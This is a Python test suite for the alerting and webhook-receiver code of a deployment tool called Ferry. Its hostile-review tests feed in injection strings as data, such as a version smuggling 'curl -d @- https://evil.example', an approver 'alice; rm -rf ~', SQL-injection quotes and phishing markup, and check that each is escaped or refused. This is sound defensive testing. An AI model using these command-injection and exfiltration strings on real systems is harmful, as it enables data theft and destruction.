"""Alerts' pure parts: specs parsed strictly, matching, idempotency keys, bounds, HMAC, provider files, receivers."""

from __future__ import annotations

import hashlib
import hmac
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pydantic
import pytest
from temporalio.exceptions import ApplicationError

from activities.notify import load_providers, redact
from cli.alerts import load_alerts
from cli.common import CommandError
from cli.environments import load_environments
from ferry.alert_render import Links, render, sign, verify_signature
from ferry.alert_router import MAX_CARRIED_BYTES, AlertsUpdate, PendingDelivery, SenderInput, carry, sender_refusal
from ferry.alerts import RESOLVED_BY_RECOVERY, AlertsFile, AlertSpec, Notification, make_notification, notification_key
from ferry.declared import EnvironmentsFile
from ferry.model import PEOPLE
from ferry.receiver import Refused, ReplayGuard, environments_query, generic_push, registry_pushes


def note(type_: str = "HealthFailed", environment: str = "staging", **kw: object) -> object:
    return make_notification(
        workflow_id="env/staging",
        run_id="run-1",
        position=12,
        type_=type_,
        environment=environment,
        message="m",
        at="2026-11-30T12:00:00Z",
        **kw,
    )  # type: ignore


def test_spec_defaults_and_strict_parsing() -> None:
    spec = AlertSpec.model_validate({"name": "oncall", "provider": "pager"}, context={PEOPLE: True})
    assert spec.environments == ["*"] and spec.events == ["*"] and spec.severity == "info"
    for bad, reason in (
        ({"name": "x", "provider": "p", "evnts": ["Applied"]}, "evnts: unknown field"),
        ({"name": "x", "provider": "p", "events": ["Aplied"]}, "unknown event type"),
        ({"name": "x", "provider": "p", "severity": "fatal"}, "severity"),
        ({"name": "x", "provider": "p", "deadline": "8d"}, "between 1s and 7d"),
        ({"name": "X_Y", "provider": "p"}, "name"),
        ({"name": "x", "provider": "p", "environments": ["prod'; drop"]}, "environments"),
    ):
        with pytest.raises(pydantic.ValidationError, match=reason):
            AlertSpec.model_validate(bad, context={PEOPLE: True})
    with pytest.raises(pydantic.ValidationError, match="unique"):
        AlertsFile.model_validate({"alerts": [{"name": "a", "provider": "p"}, {"name": "a", "provider": "q"}]})


def test_environments_yaml_carries_alerts_validated(tmp_path: Path) -> None:
    env = {"name": "staging", "repository": "r.example/team/app", "semver": ">=1.0.0"}
    ok = EnvironmentsFile.model_validate(
        {"environments": [env], "alerts": [{"name": "a", "provider": "p"}]}, context={PEOPLE: True}
    )
    assert ok.alerts == [AlertSpec(name="a", provider="p")]
    with pytest.raises(pydantic.ValidationError, match="unknown field"):
        EnvironmentsFile.model_validate(
            {"environments": [env], "alerts": [{"name": "a", "provider": "p", "x": 1}]}, context={PEOPLE: True}
        )
    path = tmp_path / "environments.yaml"
    path.write_text(json.dumps({"environments": [env], "alerts": [{"name": "a", "provider": "p", "events": ["Nope"]}]}))
    with pytest.raises(CommandError, match=r"alert a: events: unknown event type\(s\) Nope; known: Applied"):
        load_alerts(path)
    path.write_text(json.dumps({"alerts": [], "extra": 1}))
    with pytest.raises(CommandError, match="extra: unknown field"):
        load_alerts(path)
    # `ferry env apply` checks the same file's alerts as models: the problem names the alert's place and field
    path.write_text(json.dumps({"environments": [env], "alerts": [{"name": "a", "provider": "p", "events": ["Nope"]}]}))
    with pytest.raises(CommandError, match=r"alerts\.0\.events: unknown event type\(s\) Nope"):
        load_environments(path)
    path.write_text(json.dumps({"environments": [env], "alerts": [{"name": "a", "provider": "p"}] * 2}))
    with pytest.raises(CommandError, match="alerts: alert names must be unique: a"):
        load_environments(path)


def test_matching_by_environment_type_and_severity() -> None:
    errors_in_prod = AlertSpec(name="a", provider="p", environments=["prod-*"], severity="error")
    assert errors_in_prod.matches(note("HealthFailed", "prod-eu"))
    assert not errors_in_prod.matches(note("HealthFailed", "staging"))
    assert not errors_in_prod.matches(note("Applied", "prod-eu")), "info is below error"
    only_drift = AlertSpec(name="b", provider="p", events=["DriftCorrected"])
    assert only_drift.matches(note("DriftCorrected")) and not only_drift.matches(note("Applied"))
    recovered = note("Recovered", "prod-eu", resolves=list(RESOLVED_BY_RECOVERY))
    assert errors_in_prod.matches(recovered), "a recovery resolves what the alert fired, whatever its severity"
    assert not only_drift.matches(recovered)
    assert not AlertSpec(name="c", provider="p", suspend=True).matches(note())
    release = note("ReleasePublished", "")
    assert AlertSpec(name="d", provider="p").matches(release)
    assert not errors_in_prod.matches(release)


def test_idempotency_key_is_the_event_identity() -> None:
    key = notification_key("env/a", "run", 12, "Applied", "m")
    assert key == notification_key("env/a", "run", 12, "Applied", "m"), "replay computes the same key"
    assert (
        len(
            {
                key,
                notification_key("env/a", "run", 13, "Applied", "m"),
                notification_key("env/a", "run2", 12, "Applied", "m"),
                notification_key("env/b", "run", 12, "Applied", "m"),
                notification_key("env/a", "run", 12, "Healthy", "m"),
            }
        )
        == 5
    )


def test_notification_bounded() -> None:
    big = make_notification(
        workflow_id="env/x",
        run_id="r",
        position=1,
        type_="Applied",
        environment="x",
        message="m" * 10_000,
        at="2026-11-30T12:00:00Z",
        details={f"k{i}": "v" * 5000 for i in range(100)},
    )
    assert len(big.message) <= 1000 and len(big.details) == 16 and all(len(v) <= 512 for v in big.details.values())
    assert len(big.model_dump_json()) < 12_000


def test_chat_payloads_respect_provider_limits() -> None:
    long = make_notification(
        workflow_id="env/x",
        run_id="r",
        position=1,
        type_="AwaitingApproval",
        environment="x" * 60,
        message="m" * 1000,
        at="2026-11-30T12:00:00Z",
        version="1" * 120,
        details={f"k{i}": "v" * 512 for i in range(16)},
    )
    links = Links()
    slack = json.loads(render("slack", long, links, "a", "summary " * 30).body)
    assert len(slack["blocks"][0]["text"]["text"]) <= 150 and len(slack["blocks"][2]["fields"]) <= 10
    assert all(len(b["text"]["text"]) <= 3000 for b in slack["blocks"] if b["type"] == "section" and "text" in b)
    discord = json.loads(render("discord", long, links, "a", "summary " * 30).body)
    embed = discord["embeds"][0]
    assert len(discord["content"]) <= 2000 and len(embed["title"]) <= 256 and len(embed["fields"]) <= 25
    assert all(len(f["value"]) <= 1024 for f in embed["fields"])


def test_alertmanager_resolution_and_firing_window() -> None:
    fired = json.loads(render("alertmanager", note("AutoRollback"), Links(), "am").body)
    assert fired[0]["labels"]["alertname"] == "FerryAutoRollback"
    assert fired[0]["endsAt"] == "2026-12-01T12:00:00Z", "a problem fires until resolved, 24h at most"
    resolved = json.loads(
        render("alertmanager", note("Recovered", resolves=list(RESOLVED_BY_RECOVERY)), Links(), "am").body
    )
    assert {a["labels"]["event"] for a in resolved} == set(RESOLVED_BY_RECOVERY)
    assert all(a["endsAt"] == "2026-11-30T12:00:00Z" for a in resolved)
    assert render("alertmanager", note(), Links(), "am").path == "/api/v2/alerts"


def test_hmac_signature_is_flux_generic_hmac_format() -> None:
    body, key = b'{"a":1}', b"k"
    header = sign(body, key)
    assert header == "sha256=" + hmac.new(key, body, hashlib.sha256).hexdigest()
    assert verify_signature(body, key, header)
    assert not verify_signature(body + b" ", key, header)
    assert not verify_signature(body, b"other", header)
    assert not verify_signature(body, key, header.removeprefix("sha256="))
    assert not verify_signature(body, key, None)


def test_providers_file_errors_never_echo_secrets(tmp_path: Path) -> None:
    path = tmp_path / "providers.yaml"
    path.write_text("providers:\n  - {name: hook, type: generic-hmac, url: 'https://h.example/T0K3N'}\n")
    with pytest.raises(ApplicationError) as err:
        load_providers(path)
    assert err.value.type == "ProvidersFileInvalid" and "secret" in err.value.message
    assert "T0K3N" not in err.value.message
    path.write_text("providers:\n  - {name: hook, type: slack, url: 'ftp://h.example/T0K3N'}\n")
    with pytest.raises(ApplicationError) as err:
        load_providers(path)
    assert "T0K3N" not in err.value.message
    assert redact("https://hooks.slack.com/services/T000/B000/XXXX?x=1") == "https://hooks.slack.com"
    assert load_providers(None).providers == []


NOW = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)


def envelope(**event: object) -> bytes:
    base: dict[str, object] = {
        "id": "e1",
        "timestamp": "2026-11-30T11:59:59.123456789Z",
        "action": "push",
        "target": {
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "repository": "team/app",
            "digest": "sha256:" + "a" * 64,
            "tag": "1.2.0",
        },
        "request": {"host": "127.0.0.1:5001"},
    }
    base.update(event)
    return json.dumps({"events": [base]}).encode()


def test_registry_envelope_parsing() -> None:
    [push] = registry_pushes(envelope(), NOW)
    assert (push.repository, push.tag, push.id) == ("127.0.0.1:5001/team/app", "1.2.0", "e1")
    layer = {
        "mediaType": "application/vnd.cncf.flux.content.v1.tar+gzip",
        "repository": "team/app",
        "digest": "sha256:" + "b" * 64,
    }
    assert registry_pushes(envelope(target=layer), NOW) == [], "blob pushes are not releases"
    assert registry_pushes(envelope(action="pull"), NOW) == []
    cases = [
        (b"[]", 400),
        (b"{", 400),
        (json.dumps({"events": [{}] * 101}).encode(), 413),
        (b" " * (300 * 1024), 413),
        (envelope(id="x' OR '"), 400),
        (envelope(request={"host": "evil'host"}), 400),
        (envelope(timestamp=(NOW - timedelta(hours=1)).isoformat()), 409),
        (envelope(timestamp=(NOW + timedelta(hours=1)).isoformat()), 400),
    ]
    for body, status in cases:
        with pytest.raises(Refused) as refused:
            registry_pushes(body, NOW)
        assert refused.value.status == status, (body[:80], refused.value.reason)


def test_generic_webhook_and_replay_guard() -> None:
    push = generic_push(
        json.dumps(
            {"repository": "r.example/team/app", "id": "abc", "timestamp": NOW.isoformat(), "tag": "1.0.0"}
        ).encode(),
        NOW,
    )
    assert push.repository == "r.example/team/app"
    with pytest.raises(Refused, match="id"):
        generic_push(json.dumps({"repository": "r.example/team/app", "timestamp": NOW.isoformat()}).encode(), NOW)
    guard = ReplayGuard(size=2)
    assert guard.fresh(["a", "b"]) == ["a", "b"] and guard.fresh(["a", "c"]) == ["c"]
    assert guard.fresh(["a"]) == ["a"], "bounded: the oldest id is forgotten (its timestamp still ages out)"
    guard.forget(["c"])
    assert guard.fresh(["c"]) == ["c"]
    assert environments_query(["h/b", "h/a", "h/a"]).endswith("FerryRepository IN ('h/a', 'h/b')")


def test_examples_parse() -> None:
    root = Path(__file__).resolve().parents[2] / "examples"
    alerts = load_alerts(root / "alerts.yaml").alerts
    providers = load_providers(root / "alert-providers.yaml")
    assert {a.provider for a in alerts} <= {p.name for p in providers.providers}
    assert {p.type for p in providers.providers} == {
        "slack",
        "msteams",
        "discord",
        "alertmanager",
        "generic-hmac",
        "cloudevents",
    }


def test_what_waits_for_a_person_says_how_to_act() -> None:
    pending = json.loads(render("generic", note("SpecChangePending", "production"), Links(), "a").body)
    assert pending["metadata"]["approve"] == "ferry env approve production --key ~/.ssh/id_ed25519"
    assert "approve" not in json.loads(render("generic", note("Applied"), Links(), "a").body)["metadata"]


def test_awaiting_approval_suggests_an_approver_who_is_not_the_publisher() -> None:
    waiting = make_notification(
        workflow_id="promote/production/1.1.0",
        run_id="r",
        position=3,
        type_="AwaitingApproval",
        environment="production",
        message="m",
        at="2026-11-30T12:00:00Z",
        version="1.1.0",
        details={"publisher": "sre-bob", "approvers": "sre-bob, sre-alice"},
    )
    metadata = json.loads(render("generic", waiting, Links(address="t:7233", namespace="ns"), "a").body)["metadata"]
    assert metadata["approve"].startswith("ferry approve production 1.1.0 --as sre-alice ")
    assert "--address t:7233 --namespace ns --workflow-id promote/production/1.1.0" in metadata["signal"]


# ------------------------------------------------------------------------------ from a hostile review


def test_one_bad_event_never_hides_the_good_ones_of_its_batch() -> None:
    good = json.loads(envelope())["events"][0]
    stale = {**good, "id": "e2", "timestamp": (NOW - timedelta(hours=1)).isoformat()}
    odd_host = {**good, "id": "e3", "request": {"host": "registry_1:5000"}}
    pushes = registry_pushes(json.dumps({"events": [stale, odd_host, good]}).encode(), NOW)
    assert [p.id for p in pushes] == ["e1"]


def test_delivery_errors_never_carry_the_webhook_path_or_the_token() -> None:
    """An error page echoing the request path, or an HTTP library quoting a malformed URL or header: the message
    that reaches history, memo and logs names the provider's host and the kind of failure, never the secret."""
    import threading
    from http.server import BaseHTTPRequestHandler, HTTPServer

    from activities.notify import _post

    class Echo(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            page = f"Cannot POST {self.path} with {self.headers.get('Authorization')}".encode()
            self.send_response(404)
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *args: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Echo)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        with pytest.raises(ApplicationError) as refused:
            _post(f"{base}/services/T0/SECRETPATH", b"{}", {"Authorization": "Bearer SECRETTOKEN"}, 5, "chat")
        assert "HTTP 404 Not Found" in refused.value.message and refused.value.non_retryable
        for bad_url, headers in (
            (f"{base}/services/SECRET PATH", {}),
            (f"{base}/hook", {"Authorization": "Bearer SECRETTOKEN\n"}),
        ):
            with pytest.raises(ApplicationError) as malformed:
                _post(bad_url, b"{}", headers, 5, "chat")
            assert malformed.value.non_retryable and "malformed" in malformed.value.message
            assert "SECRET" not in malformed.value.message, malformed.value.message
        assert "SECRET" not in refused.value.message, refused.value.message
    finally:
        server.shutdown()


def test_provider_secrets_are_one_clean_line() -> None:
    from ferry.alert_render import ProviderSpec

    spec = ProviderSpec.model_validate({"name": "a", "type": "generic", "url": "https://h/x", "token": "t0k\n"})
    assert spec.token is not None and spec.token.get_secret_value() == "t0k"  # a token file's newline
    for bad in ({"url": "https://h/a b"}, {"token": "a\nb"}, {"headers": {"X-A": "1\r\nX-B: 2"}}):
        with pytest.raises(pydantic.ValidationError):
            ProviderSpec.model_validate({"name": "a", "type": "generic", "url": "https://h/x", **bad})


def test_forged_notifications_cannot_inject_commands_markup_or_severity() -> None:
    forged = make_notification(
        workflow_id="promote/production/1.1.0",
        run_id="r",
        position=3,
        type_="AwaitingApproval",
        environment="production",
        message="<!channel> see <https://evil.example|Approve here>",
        at="2026-11-30T12:00:00Z",
        version="1.2.3 --print | curl -d @- https://evil.example #",
        details={"approvers": "alice; rm -rf ~"},
    )
    metadata = json.loads(render("generic", forged, Links(), "a").body)["metadata"]
    assert "'1.2.3 --print | curl -d @- https://evil.example #'" in metadata["approve"]
    assert "'alice; rm -rf ~'" in metadata["approve"]
    slack = render("slack", forged, Links(), "a").body
    assert "<!channel>" not in slack and "<https://evil.example|" not in slack and "&lt;!channel&gt;" in slack
    teams = render(
        "msteams", forged.model_copy(update={"message": "[Approve](https://evil.example)"}), Links(), "a"
    ).body
    assert "[Approve](https://evil.example)" not in teams
    from ferry.alerts import Notification

    claimed = Notification.model_validate({**forged.model_dump(), "type": "Applied", "severity": "error"})
    assert claimed.severity == "info", "severity follows the event type, not the sender's claim"
    with pytest.raises(pydantic.ValidationError, match="timestamp"):
        Notification.model_validate({**forged.model_dump(), "at": "yesterday"})
    with pytest.raises(pydantic.ValidationError):
        Notification.model_validate({**forged.model_dump(), "resolves": ["x" * 1_000_000]})


def _pending(i: int, message: str = "m" * 200) -> PendingDelivery:
    return PendingDelivery(
        alert="oncall",
        provider="pager",
        deadline_at="2026-12-07T00:00:00Z",
        notification=Notification(key=f"key-{i:08d}", type="HealthFailed", at="2026-12-07T00:00:00Z", message=message),
    )


def test_continue_as_new_carries_deliveries_in_flight_within_its_budget_oldest_first() -> None:
    pending = [_pending(i) for i in range(1000)]
    carried, left = carry(pending)
    assert carried == pending[: len(carried)] and left == pending[len(carried) :] and left
    assert sum(len(p.model_dump_json()) for p in carried) <= MAX_CARRIED_BYTES
    assert carry(pending[:10]) == (pending[:10], [])


def test_declared_alerts_past_their_budget_are_refused_with_their_size() -> None:
    patterns = ["e" * 64] * 64
    alerts = [AlertSpec(name=f"a{i}", provider="pager", environments=patterns) for i in range(100)]
    with pytest.raises(pydantic.ValidationError, match=r"the declared alerts are \d+ bytes encoded, more than"):
        AlertsUpdate(alerts=alerts)
    assert AlertsUpdate(alerts=alerts[:5]).alerts == alerts[:5]


def test_a_notification_is_ferrys_only_from_a_ferry_run_about_its_own_environment() -> None:
    def refusal(source: str, kind: str, queue: str = "ferry", environment: str = "production") -> str:
        return sender_refusal(SenderInput(source=source, run_id="r", environment=environment), kind, queue, "ferry")

    assert refusal("env/production", "EnvironmentWorkflow") == ""
    assert refusal("promote/production/1.1.0", "PromotionWorkflow") == ""
    assert refusal("release/registry.local/team/shop/1.1.0", "ReleaseWorkflow", environment="") == ""
    assert "not the id of one of Ferry's workflows" in refusal("mallory/production", "EnvironmentWorkflow")
    assert "is of type PromotionWorkflow, not EnvironmentWorkflow" in refusal("env/production", "PromotionWorkflow")
    assert "not Ferry's" in refusal("promote/production/1.1.0", "PromotionWorkflow", queue="attacker")
    assert "is about staging, not production" in refusal("env/staging", "EnvironmentWorkflow")
